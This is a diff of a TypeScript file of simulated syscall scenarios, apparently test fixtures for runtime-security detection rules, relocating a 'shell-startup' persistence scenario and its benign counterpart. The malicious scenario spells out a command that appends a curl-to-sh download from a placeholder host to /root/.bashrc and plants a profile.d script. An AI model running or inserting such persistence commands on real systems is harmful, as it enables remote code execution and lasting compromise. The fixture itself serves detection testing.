@@ -817,6 +817,23 @@ export const SCENARIOS: Record<string, Build> = {
       .socket(102, 3, AF.INET, SOCK.STREAM)
   },
 
+  'shell-startup': (s) => {
+    hostSession(s)
+    s.spawn(100, ROOT_SHELL, '/usr/bin/bash', { args: ['-c', 'echo "curl -s http://203.0.113.7/b|sh" >> /root/.bashrc'] })
+      .openat(100, 3, '/root/.bashrc', O.WRONLY | O.CREAT | O.APPEND, 0o666)
+      .spawn(101, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', args: ['persist.py'] })
+      .openat(101, 3, '/etc/profile.d/zz-update.sh', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
+  },
+  'shell-startup.benign': (s) => {
+    hostSession(s)
+    s.spawn(100, ROOT_SHELL, '/usr/sbin/useradd', { args: ['-m', 'bob'] })
+      .openat(100, 3, '/home/bob/.bashrc', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
+      .spawn(101, ROOT_SHELL, '/usr/bin/dpkg', { args: ['--unpack', 'bash.deb'] })
+      .openat(101, 3, '/etc/bash.bashrc.dpkg-new', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
+      .renameat2(101, '/etc/bash.bashrc.dpkg-new', '/etc/bash.bashrc')
+      .openat(ROOT_SHELL, 3, '/root/.bashrc', O.RDONLY)
+  },
+
   // --- saker_rules_incubating.yaml ----------------------------------------------------------
 
   'container-drift': (s) => {
@@ -847,23 +864,6 @@ export const SCENARIOS: Record<string, Build> = {
       .spawn(102, USER_SHELL, '/usr/bin/make', { uid: 1000, args: ['check'] })
       .spawn(103, 102, '/tmp/build/unit-tests', { comm: 'unit-tests' })
       .spawn(104, ROOT_SHELL, '/usr/bin/dash', { comm: 'sh', args: ['/tmp/install.sh'] })
-  },
-
-  'shell-startup': (s) => {
-    hostSession(s)
-    s.spawn(100, ROOT_SHELL, '/usr/bin/bash', { args: ['-c', 'echo "curl -s http://203.0.113.7/b|sh" >> /root/.bashrc'] })
-      .openat(100, 3, '/root/.bashrc', O.WRONLY | O.CREAT | O.APPEND, 0o666)
-      .spawn(101, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', args: ['persist.py'] })
-      .openat(101, 3, '/etc/profile.d/zz-update.sh', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
-  },
-  'shell-startup.benign': (s) => {
-    hostSession(s)
-    s.spawn(100, ROOT_SHELL, '/usr/sbin/useradd', { args: ['-m', 'bob'] })
-      .openat(100, 3, '/home/bob/.bashrc', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
-      .spawn(101, ROOT_SHELL, '/usr/bin/dpkg', { args: ['--unpack', 'bash.deb'] })
-      .openat(101, 3, '/etc/bash.bashrc.dpkg-new', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
-      .renameat2(101, '/etc/bash.bashrc.dpkg-new', '/etc/bash.bashrc')
-      .openat(ROOT_SHELL, 3, '/root/.bashrc', O.RDONLY)
   },
 
   'dangerous-capabilities': (s) => {
